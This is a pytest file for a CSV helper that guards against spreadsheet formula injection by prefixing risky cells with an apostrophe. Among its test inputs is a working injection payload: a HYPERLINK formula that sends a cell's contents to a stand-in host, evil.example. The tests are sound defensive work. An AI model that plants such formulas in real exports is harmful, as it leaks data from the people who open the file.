"""The one CSV helper: text that a spreadsheet would run as a formula is written as plain text."""

from __future__ import annotations

import csv
import io

import pytest

from openlfr.csvsafe import SafeDictWriter, SafeWriter, safe_cell


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("High Street", "High Street"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_is_neutralised(typed: str, written: str) -> None:
    assert safe_cell(typed) == written


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None


def test_writers_neutralise_every_cell_and_round_trip() -> None:
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", "ok", -1], ["@A1", "-x", 2.5]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok", "-1"], ["'@A1", "'-x", "2.5"]]
    out = io.StringIO()
    writer = SafeDictWriter(out, ["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "=HYPERLINK(1)", "b": 7})
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"a": "'=HYPERLINK(1)", "b": "7"}]
